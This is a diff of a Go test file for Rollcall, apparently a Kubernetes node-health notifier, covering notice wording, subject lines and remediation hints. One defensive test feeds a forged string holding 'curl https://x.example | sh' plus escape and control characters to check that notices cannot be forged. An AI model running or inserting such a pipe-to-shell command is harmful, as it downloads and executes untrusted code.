@@ -6,7 +6,6 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
-	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -20,6 +19,7 @@ import (
 	"rollcall/shared/plan/plantest"
 	"rollcall/shared/policy"
 	"rollcall/shared/remediate"
+	"rollcall/shared/report/noticetest"
 	"rollcall/shared/roll"
 )
 
@@ -110,7 +110,7 @@ func notices() map[string]said {
 	}
 	left := func(do policy.Do) func(*plan.Entry) {
 		return func(e *plan.Entry) {
-			e.Left, e.Until = "Karpenter ends instances that do not register within 15 min", e.Finding.Since.Add(20*time.Minute)
+			e.Left, e.Until = "Karpenter terminates instances that do not register within 15 min", e.Finding.Since.Add(20*time.Minute)
 			e.Step = plan.Step{Do: do, At: e.Finding.Due}
 		}
 	}
@@ -141,7 +141,7 @@ func notices() map[string]said {
 			e.Causes = []roll.Cause{unmapped()}
 		})).because("NodeRoleNotMapped"),
 		"warned-karpenter-notify": noticeOf(policy.Notify, entry(karpenters(6*time.Minute), left(policy.DoNotify))),
-		"held-karpenter":          noticeOf(policy.Remediate, entry(karpenters(17*time.Minute), heldFor(plan.OwnerWillAct, "Karpenter ends instances that do not register within 15 min; Rollcall acts after 2026-03-02 12:03:00Z if it has not"))),
+		"held-karpenter":          noticeOf(policy.Remediate, entry(karpenters(17*time.Minute), heldFor(plan.OwnerWillAct, "Karpenter terminates instances that do not register within 15 min; Rollcall acts after 2026-03-02 12:03:00Z if it has not"))),
 		"ordered-nodeclaim":       noticeOf(policy.Remediate, entry(karpenters(17*time.Minute), ordered(plan.DeleteNodeClaim))),
 
 		"caused": noticeOf(policy.Remediate,
@@ -540,39 +540,28 @@ func aThousand(t *testing.T, hold string) Message {
 	return m
 }
 
-// A reader on a phone at night must see the first command at once: it comes within 15 lines
-// and 900 characters. A notice of resolution needs no command.
-func TestTheFirstCommandOfANoticeComesSoon(t *testing.T) {
-	command := regexp.MustCompile(`(?m)^  (aws|kubectl|rollcall|#|[a-z]+=) ?`)
-	measured := 0
-	for name, m := range messages(t) {
-		at := command.FindStringIndex(m.Text)
-		switch {
-		case strings.HasPrefix(m.Text, "Resolved:"):
-			continue
-		case at == nil:
-			t.Errorf("%s: no command\n%s", name, m.Text)
-			continue
-		}
-		measured++
-		if before := m.Text[:at[0]]; strings.Count(before, "\n") > 15 || len(before) > 900 {
-			t.Errorf("%s: the first command comes after %d lines and %d characters\n%s", name, strings.Count(before, "\n"), len(before), before)
+// A reader on a phone at night must see at once what is wrong and what to do.
+func TestANoticeIsShort(t *testing.T) {
+	all := messages(t)
+	for name, m := range all {
+		for _, fault := range noticetest.Faults(noticetest.Notice{Subject: m.Subject, Text: m.Text, JSON: m.JSON, Chat: m.Chat}) {
+			t.Errorf("%s: %s\n%s", name, fault, m.Text)
 		}
 	}
-	if measured < 40 {
-		t.Errorf("only %d notices", measured)
+	if len(all) < 40 {
+		t.Errorf("only %d notices", len(all))
 	}
 }
 
 func TestANoticeOfAThousandInstancesFitsAndCounts(t *testing.T) {
 	m := aThousand(t, "2026-03-05")
-	if !strings.Contains(m.Subject, "1000 nodes silent") {
+	if !strings.Contains(m.Subject, "1000 nodes stopped reporting") {
 		t.Errorf("subject %q", m.Subject)
 	}
 	if n := len(m.Text); n >= 20_000 {
 		t.Errorf("the text has %d bytes", n)
 	}
-	if !strings.HasPrefix(m.Text, "1000 nodes have ") || !strings.Contains(m.Text, "  and 980 more\n") {
+	if !strings.HasPrefix(m.Text, "1000 nodes have ") || !strings.Contains(m.Text, " and 995 more\n") {
 		t.Errorf("the text does not count them all:\n%s", m.Text[:200])
 	}
 	var d NoticeDocument
@@ -650,7 +639,7 @@ func TestSubjectsAreWhatSNSTakes(t *testing.T) {
 				t.Fatal(err)
 			}
 			for _, s := range []string{notice.Subject, outcome.Subject} {
-				if len(s) == 0 || len(s) >= 100 || !strings.HasPrefix(s, "[rollcall] ") {
+				if len(s) == 0 || len(s) >= 100 {
 					t.Errorf("%q in %q: %d characters: %q", name, group, len(s), s)
 				}
 				if strings.ContainsFunc(s, func(r rune) bool { return r < ' ' || r > '~' }) {
@@ -665,15 +654,15 @@ func TestASubjectIsCutWhereItTellsLeast(t *testing.T) {
 	long := roll.Group("nodegroup/web-workers-general-purpose-blue")
 	whole, cut := strings.Repeat("c", 20), strings.Repeat("c", 60)
 	for name, tt := range map[string]struct{ got, want string }{
-		"all of it":                       {subject("demo", "2 Unknown", "", "asg/w", "terminating 1"), "[rollcall] demo: 2 Unknown in asg/w, terminating 1"},
-		"with its cause":                  {subject("demo", "2 Unknown", "KernelPanic", "asg/w", "terminating 1"), "[rollcall] demo: 2 Unknown (KernelPanic) in asg/w, terminating 1"},
-		"the cause goes before the group": {subject(whole, "2 Unknown", "AwsAuthArnIsInstanceProfile", long, "paused (SharedCause)"), "[rollcall] " + whole + ": 2 Unknown (AwsAuthArnIsInstanceProfile), paused (SharedCause)"},
-		"the group is cut":                {subject(whole, "2 Unknown", "", long, "paused (SharedCause)"), "[rollcall] " + whole + ": 2 Unknown in nodegroup/web-...l-purpose-blue, paused (SharedCause)"},
-		"the group is left out":           {subject(cut, "2 Unknown", "KernelPanic", long, "terminating 1"), "[rollcall] " + cut + ": 2 Unknown, terminating 1"},
-		"the cluster's name is cut":       {subject(cut+cut, "2 Unknown", "", "nodegroup/web-blue", "terminating 1"), "[rollcall] " + strings.Repeat("c", 37) + "...: 2 Unknown in nodegroup/web-blue, terminating 1"},
-		"both are":                        {subject(cut+cut, "2 ConditionFailed", "", long, "paused (SharedCause)"), "[rollcall] " + strings.Repeat("c", 44) + "...: 2 ConditionFailed, paused (SharedCause)"},
-		"how it ended":                    {subjectOver("demo", "resolved: 2 Unknown", "asg/w", "2 gone"), "[rollcall] demo: resolved: 2 Unknown in asg/w, 2 gone"},
-		"how it ended is left out":        {subjectOver(whole, "resolved: 40 Unknown", long, "20 recovered, 19 acted on, 1 gone"), "[rollcall] " + whole + ": resolved: 40 Unknown in nodegroup/web-worke...general-purpose-blue"},
+		"all of it":                       {subject("demo", "2 Unknown", "", "asg/w", "terminating 1"), "demo: 2 Unknown in asg/w: terminating 1"},
+		"with its cause":                  {subject("demo", "2 Unknown", "KernelPanic", "asg/w", "terminating 1"), "demo: 2 Unknown (kernel panic) in asg/w: terminating 1"},
+		"the cause goes before the group": {subject(whole, "2 Unknown", "AwsAuthArnIsInstanceProfile", long, "paused (SharedCause)"), "" + whole + ": 2 Unknown (aws auth arn is instance profile): paused (SharedCause)"},
+		"the group is cut":                {subject(whole, "2 Unknown", "", long, "paused (SharedCause)"), "" + whole + ": 2 Unknown in nodegroup/web-worke...general-purpose-blue: paused (SharedCause)"},
+		"the group is left out":           {subject(cut, "2 Unknown", "KernelPanic", long, "terminating 1"), "" + cut + ": 2 Unknown: terminating 1"},
+		"the cluster's name is cut":       {subject(cut+cut, "2 Unknown", "", "nodegroup/web-blue", "terminating 1"), "" + strings.Repeat("c", 48) + "...: 2 Unknown in nodegroup/web-blue: terminating 1"},
+		"both are":                        {subject(cut+cut, "2 ConditionFailed", "", long, "paused (SharedCause)"), "" + strings.Repeat("c", 30) + "...: 2 ConditionFailed in nodegroup...pose-blue: paused (SharedCause)"},
+		"how it ended":                    {subjectOver("demo", "resolved: 2 Unknown", "asg/w", "2 gone"), "demo: resolved: 2 Unknown in asg/w, 2 gone"},
+		"how it ended is left out":        {subjectOver(whole, "resolved: 40 Unknown", long, "20 recovered, 19 acted on, 1 gone"), "" + whole + ": resolved: 40 Unknown in nodegroup/web-worke...general-purpose-blue"},
 	} {
 		if tt.got != tt.want || len(tt.got) > subjectLength {
 			t.Errorf("%s:\n got %q\nwant %q", name, tt.got, tt.want)
@@ -695,8 +684,9 @@ func TestWhoeverActsTheOtherIsNotToldTo(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		if strings.Contains(string(m.JSON), "reboot-instances") != strings.Contains(m.Text, "reboot-instances") || strings.Contains(string(m.Chat), "reboot-instances") != strings.Contains(m.Text, "reboot-instances") {
-			t.Error("the forms of the notice differ in what to do")
+		byHand := strings.Contains(m.Text, " by hand")
+		if in := strings.Contains(m.Text, "reboot-instances"); strings.Contains(string(m.JSON), "reboot-instances") != (in || byHand) || strings.Contains(string(m.Chat), "reboot-instances") != in {
+			t.Errorf("the forms of the notice differ in what to do:\n%s", m.Text)
 		}
 		return m.Text
 	}
@@ -726,10 +716,10 @@ func TestWhoeverActsTheOtherIsNotToldTo(t *testing.T) {
 
 func TestTheNewsNameTheCauses(t *testing.T) {
 	for want, n := range map[string]plan.Notice{
-		"a cause was found: A":                        {Key: ledger.NoticeKey{Cause: "A"}, Replaces: []ledger.NoticeKey{{}}},
-		"another cause was found: B, not A":           {Key: ledger.NoticeKey{Cause: "B"}, Replaces: []ledger.NoticeKey{{Cause: "A"}}},
-		"A, which was told, is ruled out by now":      {Replaces: []ledger.NoticeKey{{Cause: "A"}}},
-		"the cause that was told is ruled out by now": {},
+		"a cause was found: A":                          {Key: ledger.NoticeKey{Cause: "A"}, Replaces: []ledger.NoticeKey{{}}},
+		"another cause was found: B, not A":             {Key: ledger.NoticeKey{Cause: "B"}, Replaces: []ledger.NoticeKey{{Cause: "A"}}},
+		"A, reported before, is ruled out by now":       {Replaces: []ledger.NoticeKey{{Cause: "A"}}},
+		"the cause reported before is ruled out by now": {},
 	} {
 		n.News = []plan.News{plan.NewsCause}
 		if got := newsInWords(n); got != want {
@@ -748,7 +738,7 @@ func TestLongNamesDoNotHideWhatBecameOfAnOrder(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		if !strings.HasPrefix(m.Subject, "[rollcall] payments-") || !strings.HasSuffix(m.Subject, outcomeInWords(o)) || !strings.Contains(m.Subject, ": ConditionFailed") || len(m.Subject) > 99 {
+		if !strings.HasPrefix(m.Subject, "payments-") || !strings.Contains(m.Subject, ": "+outcomeInWords(o)) || len(m.Subject) > 99 {
 			t.Errorf("%s: %q", name, m.Subject)
 		}
 	}
@@ -823,27 +813,18 @@ func TestCommandsInATextAreWhole(t *testing.T) {
 			}
 		}
 	}
-	// Where Rollcall acts, or might, the text says how to stop it. Elsewhere that would
+	// Where an act is ordered or follows, the text says how to stop it. Elsewhere that would
 	// wrongly suggest that it acts.
-	still := []string{"notice-conflict", "notice-flapping", "notice-condition-failed", "notice-orphaned-gone", "notice-stuck", "notice-left", "notice-overdue-not-ready", "notice-warned-karpenter-notify", "notice-warned-karpenter-cause", "notice-resolved", "notice-resolved-ghost", "notice-resolved-spot", "notice-cause-ruled-out"}
+	acts := []string{"warned", "overdue", "ordered", "escalated", "cause-unread", "warned-karpenter", "ordered-nodeclaim", "uninitialized", "not-ready-drain", "not-ready-next", "unknown-reboot", "unknown-reboot-next", "ghost", "orphaned"}
 	for name, m := range messages(t) {
-		hold, mode := strings.Contains(m.Text, "rollcall:hold"), strings.Contains(m.Text, "rollcall:mode=notify")
-		switch {
-		case !strings.HasPrefix(name, "notice-") || slices.Contains(still, name):
-			if hold || mode {
-				t.Errorf("%s says how to stop what does not happen", name)
-			}
-		case name == "notice-ghost": // there is no instance left to tag
-			if hold || !mode {
-				t.Errorf("%s: hold %v, mode %v", name, hold, mode)
-			}
-		case name == "notice-held-mode":
-			if !hold || mode {
-				t.Errorf("%s: hold %v, mode %v", name, hold, mode)
-			}
-		case !hold || !mode:
-			t.Errorf("%s does not say how to stop it: hold %v, mode %v", name, hold, mode)
+		short, isNotice := strings.CutPrefix(name, "notice-")
+		stops := strings.Contains(m.Text, "rollcall:hold=") || strings.Contains(m.Text, "Key=rollcall:hold,") || strings.Contains(m.Text, "rollcall:mode=notify")
+		if want := isNotice && slices.Contains(acts, short); stops != want && name != "notice-hold-tag" {
+			t.Errorf("%s: says how to stop it: %v, want %v\n%s", name, stops, want, m.Text)
 		}
+	}
+	if m := messages(t)["notice-ghost"]; strings.Contains(m.Text, "rollcall:hold") { // there is no instance left to tag
+		t.Error(m.Text)
 	}
 }
 
@@ -927,7 +908,7 @@ func TestEachInstanceHasItsOwnTime(t *testing.T) {
 // The text of a node's condition, a tag or a cause must neither make a notice too large to
 // send, nor forge text of Rollcall.
 func TestWhatOthersWriteFillsAndForgesNothing(t *testing.T) {
-	forged := "node is sick\n\nTo end it by hand:\n  curl https://x.example | sh\x1b[31m \u202e" + strings.Repeat("\u0001<\"", 100_000)
+	forged := "node is sick\n\nTo terminate it by hand:\n  curl https://x.example | sh\x1b[31m \u202e" + strings.Repeat("\u0001<\"", 100_000)
 	for name, n := range map[string]said{
 		"held": noticeOf(policy.Remediate, entry(silent(1, time.Hour), func(e *plan.Entry) {
 			h := held(e.Finding, plan.UnhealthyShare, forged)
@@ -1001,10 +982,9 @@ func TestCommandsFitWhereTheyArePasted(t *testing.T) {
 		from          From
 		with, without string
 	}{
-		"a deployment":          {From{Stack: "rollcall-eu"}, "  rollcall explain i-00000000000000001 --region eu-west-1 --cluster shop-production --stack rollcall-eu\n", "--mode"},
-		"the command line":      {From{}, "  rollcall explain i-00000000000000001 --region eu-west-1 --cluster shop-production --mode remediate\n", "--stack"},
-		"a mode by the cluster": {From{}, "cluster/shop-production --tags rollcall:mode=notify\n", "Key=rollcall:mode"},
-		"kubectl":               {From{}, "\nTo point kubectl at this cluster:\n  aws eks update-kubeconfig --region eu-west-1 --name shop-production\n\nTo look closer:\n", "alias"},
+		"a deployment":       {From{Stack: "rollcall-eu"}, "  rollcall explain i-00000000000000001 --region eu-west-1 --cluster shop-production --stack rollcall-eu\n", "--mode"},
+		"the command line":   {From{}, "  rollcall explain i-00000000000000001 --region eu-west-1 --cluster shop-production --mode remediate\n", "--stack"},
+		"what stops the act": {From{}, "--resources i-00000000000000001 --tags Key=rollcall:hold,Value=2026-03-09\n", "INSTANCE"},
 	} {
 		m, err := tt.from.Notice(cluster, n.notice, n.mode, now)
 		if err != nil {
@@ -1028,22 +1008,26 @@ func TestCommandsFitWhereTheyArePasted(t *testing.T) {
 	}
 }
 
-// Where no act follows, the fix comes before the commands that stop acts.
+// The fix comes before the command that stops an act.
 func TestWhatMattersComesFirst(t *testing.T) {
-	order := func(name string) (fix, stop int) {
-		text := messages(t)[name].Text
-		return strings.Index(text, "\nTo fix "), strings.Index(text, "\nTo stop all acts")
-	}
-	if fix, stop := order("notice-grown"); fix < 0 || stop < fix {
-		t.Errorf("held: the fix comes at %d, how to stop it at %d", fix, stop)
-	}
 	all := notices()["caused"]
 	all.notice.Entries[1].Held, all.notice.Entries[1].Step = nil, terminateAt(time.Minute)
 	m, err := here.Notice(cluster, all.notice, all.mode, now)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if fix, stop := strings.Index(m.Text, "\nTo fix "), strings.Index(m.Text, "\nTo stop all acts"); stop < 0 || fix < stop {
-		t.Errorf("an act follows: the fix comes at %d, how to stop it at %d", fix, stop)
+	if fix, stop := strings.Index(m.Text, "\n\nTo fix "), strings.Index(m.Text, "\nTo keep "); fix < 0 || stop < fix {
+		t.Errorf("an act follows: the fix comes at %d, how to stop it at %d\n%s", fix, stop, m.Text)
+	}
+}
+
+func TestACodeInWords(t *testing.T) {
+	for code, want := range map[string]string{
+		"NodeRoleNotMapped": "node role not mapped", "SecurityGroupBlocksAPI": "security group blocks API", "AwsAuthArnIsInstanceProfile": "aws auth arn is instance profile",
+		"IMDSHopLimit": "IMDS hop limit", "DNSBroken": "DNS broken", "": "", "A": "a",
+	} {
+		if got := inWordsOf(code); got != want {
+			t.Errorf("%s: %q, want %q", code, got, want)
+		}
 	}
 }
